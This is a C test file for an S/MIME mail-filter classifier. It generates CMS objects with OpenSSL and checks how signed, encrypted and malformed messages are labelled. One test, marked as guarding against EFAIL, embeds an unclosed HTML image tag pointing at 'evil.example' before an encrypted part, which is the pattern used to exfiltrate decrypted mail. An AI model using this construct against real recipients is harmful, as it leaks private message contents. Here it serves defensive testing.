/* SPDX-License-Identifier: BSD-2-Clause */
#include "milter-smime/smime_kind.h"

#include <openssl/pkcs7.h>

#include "pki.h"
#include "tap.h"

static const struct spool_place place = {"/tmp", 1 << 20};

#define P7S "application/pkcs7-signature"
#define INNER "Content-Type: text/plain\r\n\r\nHello\r\n"

static char *detached, *opaque, *certs_only, *enveloped, *data;

static void
make_objects(void)
{
	EVP_PKEY *key = EVP_EC_gen("P-256");
	EVP_PKEY *rsa = EVP_RSA_gen(1024);
	struct pki_cert spec = {.cn = "Signer", .serial = 1};
	X509 *cert = pki_make(&spec, key, NULL, key);
	X509 *to = pki_make(&spec, rsa, NULL, rsa);
	STACK_OF(X509) *list = sk_X509_new_null();
	struct pki_signing s = {.by = {{cert, key}}};
	unsigned char *der;
	BIO *in = BIO_new_mem_buf(INNER, -1);
	CMS_ContentInfo *cms;
	PKCS7 *bag;
	size_t n;
	int len;

	der = pki_sign(&s, INNER, strlen(INNER), &n);
	detached = pki_base64(der, n);
	free(der);
	s.opaque = true;
	der = pki_sign(&s, INNER, strlen(INNER), &n);
	opaque = pki_base64(der, n);
	free(der);
	sk_X509_push(list, to);
	bag = PKCS7_new();
	if (PKCS7_set_type(bag, NID_pkcs7_signed) != 1 ||
	    PKCS7_content_new(bag, NID_pkcs7_data) != 1 ||
	    PKCS7_set_detached(bag, 1) != 1 ||
	    PKCS7_add_certificate(bag, to) != 1)
		abort();
	der = NULL;
	len = i2d_PKCS7(bag, &der);
	certs_only = pki_base64(der, (size_t)len);
	OPENSSL_free(der);
	PKCS7_free(bag);
	cms = CMS_encrypt(list, in, EVP_aes_128_cbc(), CMS_BINARY);
	der = NULL;
	len = i2d_CMS_ContentInfo(cms, &der);
	enveloped = pki_base64(der, (size_t)len);
	OPENSSL_free(der);
	CMS_ContentInfo_free(cms);
	BIO_free(in);
	in = BIO_new_mem_buf(INNER, -1);
	cms = CMS_data_create(in, CMS_BINARY);
	der = NULL;
	len = i2d_CMS_ContentInfo(cms, &der);
	data = pki_base64(der, (size_t)len);
	OPENSSL_free(der);
	CMS_ContentInfo_free(cms);
	BIO_free(in);
	sk_X509_free(list);
	X509_free(cert);
	X509_free(to);
	EVP_PKEY_free(key);
	EVP_PKEY_free(rsa);
}

/* Letters: S signed, E encrypted, G gateway message, M malformed. */
static void
is_kind(const char *head, const char *body, enum smime_form form,
    const char *flags, const char *says)
{
	struct smime_kind k;
	struct error err = {0};
	struct entity e;
	char got[8];
	bool ok, inside;

	entity_init(&e);
	buf_puts(&e.head, head);
	pieces_add(&e.body, body, strlen(body));
	ok = smime_kind_find(&e, &place, &k, &err);
	snprintf(got, sizeof(got), "%s%s%s%s",
	    smime_kind_is_signed(&k) ? "S" : "",
	    smime_kind_is_encrypted(&k) ? "E" : "",
	    smime_kind_is_gateway(&k) ? "G" : "",
	    k.malformed[0] != '\0' ? "M" : "");
	inside = k.signed_off + k.signed_len <= e.body.len;
	check(ok && inside && k.form == form && strcmp(got, flags) == 0, "%s",
	    says);
	if (k.form != form || strcmp(got, flags) != 0)
		printf("# %s %d %s\n", got, (int)k.form, k.malformed);
	smime_kind_clear(&k);
	entity_clear(&e);
}

static void
multipart(const char *parameters, const char *second, const char *cms,
    const char *end, enum smime_form form, const char *flags,
    const char *says)
{
	char *head = mem_printf("Content-Type: multipart/signed%s\r\n",
	    parameters);
	char *body = mem_printf("preamble\r\n--b \r\n" INNER "\r\n--b\r\n"
	    "Content-Type: %s\r\nContent-Transfer-Encoding: base64\r\n\r\n"
	    "%s%s", second, cms, end);

	is_kind(head, body, form, flags, says);
	free(head);
	free(body);
}

#define PROTOCOL "; protocol=\"application/pkcs7-signature\"; boundary=b"
#define END "--b--\r\n"

static void
test_multipart(void)
{
	enum smime_form m = SMIME_MULTIPART_SIGNED;

	multipart(PROTOCOL, P7S, detached, END, m, "SG",
	    "a detached signature is found");
	multipart("; Protocol=application/X-PKCS7-signature; boundary=b",
	    "Application/X-pkcs7-Signature; name=x", detached, END, m, "SG",
	    "both spellings of its type are known, in any case");
	multipart("; boundary=b", P7S, detached, END, m, "SG",
	    "the second part tells where the protocol is not said");
	multipart(PROTOCOL, P7S, detached, "--b-- \t\r\nmore", m, "SG",
	    "transport padding is legal");
	multipart(PROTOCOL, P7S, detached, "", m, "SG",
	    "the last delimiter may be missing");
	multipart("; protocol=\"application/pgp-signature\"; boundary=b",
	    P7S, detached, END, SMIME_NOT, "", "PGP is not S/MIME");
	multipart("; boundary=b", "text/plain", detached, END, SMIME_NOT, "",
	    "nor is a multipart/signed that does not say so");
	multipart("; protocol=\"application/pkcs7-signature\"", P7S, detached,
	    END, m, "GM", "without boundary it is malformed");
	multipart(PROTOCOL "; boundary=c", P7S, detached, END, m, "GM",
	    "with two boundaries too");
	multipart("; protocol=\"application/pkcs7-signature\"; boundary*=b",
	    P7S, detached, END, m, "GM", "and with one in RFC 2231 form");
	multipart(PROTOCOL, "text/plain", detached, END, m, "GM",
	    "and when the second part is something else");
	multipart(PROTOCOL, P7S, detached, "--b\r\n\r\nthird\r\n" END, m,
	    "GM", "and when there are three parts");
	multipart(PROTOCOL, P7S, opaque, END, m, "GM",
	    "and when the signature carries content of its own");
	multipart(PROTOCOL, P7S, enveloped, END, m, "GM",
	    "and when it is no signature but encrypted");
	multipart(PROTOCOL, P7S, "AAAA\r\n", END, m, "GM",
	    "and when it is no CMS object");
	multipart(PROTOCOL, P7S, "", END, m, "GM", "and when it is empty");
	is_kind("Content-Type: multipart/signed" PROTOCOL "\r\n", "", m,
	    "GM", "and when there is no body");
	multipart(PROTOCOL "\r\nContent-Type: text/plain", P7S, detached,
	    END, m, "GM", "and with two Content-Type fields");
}

static void
test_opaque(void)
{
	static const char mime[] = "Content-Type: application/pkcs7-mime\r\n"
	    "Content-Transfer-Encoding: base64\r\n";
	static const char x_mime[] = "content-type: Application/X-PKCS7-Mime; "
	    "smime-type=enveloped-data\r\n"
	    "content-transfer-encoding: BASE64\r\n";
	static const char named[] = "Content-Type: application/octet-stream; "
	    "name=\"smime.P7M\"\r\nContent-Transfer-Encoding: base64\r\n";
	static const char filed[] = "Content-Type: application/octet-stream"
	    "\r\nContent-Disposition: attachment;\r\n filename=smime.p7m\r\n"
	    "Content-Transfer-Encoding: base64\r\n";
	static const char unnamed[] = "Content-Type: "
	    "application/octet-stream; name=x.bin\r\n"
	    "Content-Transfer-Encoding: base64\r\n";

	is_kind(mime, opaque, SMIME_CMS, "SG", "an opaque signature is found");
	is_kind(x_mime, opaque, SMIME_CMS, "SG",
	    "by its content, not by smime-type");
	is_kind(mime, enveloped, SMIME_CMS, "EG", "encrypted mail is found");
	is_kind(mime, certs_only, SMIME_CMS, "",
	    "certificates alone are neither signed nor encrypted");
	is_kind(mime, data, SMIME_CMS, "", "nor are plain data");
	is_kind(mime, detached, SMIME_CMS, "GM",
	    "a signature without its content is malformed");
	is_kind(mime, "Hello\r\n", SMIME_NOT, "",
	    "what is no CMS object at all is not S/MIME");
	is_kind(mime, "", SMIME_NOT, "", "nor is nothing");
	is_kind(named, opaque, SMIME_CMS, "SG",
	    "octet-stream is known by its name");
	is_kind(filed, enveloped, SMIME_CMS, "EG", "or its file name");
	is_kind(named, "Hello\r\n", SMIME_NOT, "",
	    "but only if it holds what the name says");
	is_kind(unnamed, opaque, SMIME_NOT, "",
	    "octet-stream of another name is not S/MIME");
	is_kind("", "Hello\r\n", SMIME_NOT, "", "nor is a plain message");
	is_kind("Content-Type: application/pkcs7-mime\r\n"
	    "Content-Type: text/plain\r\n"
	    "Content-Transfer-Encoding: base64\r\n", opaque, SMIME_CMS, "GM",
	    "two Content-Type fields make it malformed");
}

/* EFAIL: never look into parts. */
static void
test_deep(void)
{
	char *body = mem_printf("--m\r\nContent-Type: text/html\r\n\r\n<img "
	    "src=\"http://evil.example/\r\n--m\r\n"
	    "Content-Type: application/pkcs7-mime\r\n"
	    "Content-Transfer-Encoding: base64\r\n\r\n%s--m--\r\n",
	    enveloped);

	is_kind("Content-Type: multipart/mixed; boundary=m\r\n", body,
	    SMIME_NOT, "", "S/MIME inside a multipart is not looked at");
	free(body);
	body = mem_printf("Content-Type: application/pkcs7-mime\r\n"
	    "Content-Transfer-Encoding: base64\r\n\r\n%s", opaque);
	is_kind("Content-Type: message/rfc822\r\n", body, SMIME_NOT, "",
	    "nor inside an embedded message");
	free(body);
}

int
main(void)
{
	make_objects();
	test_multipart();
	test_opaque();
	test_deep();
	free(detached);
	free(opaque);
	free(certs_only);
	free(enveloped);
	free(data);
	return tap_done();
}
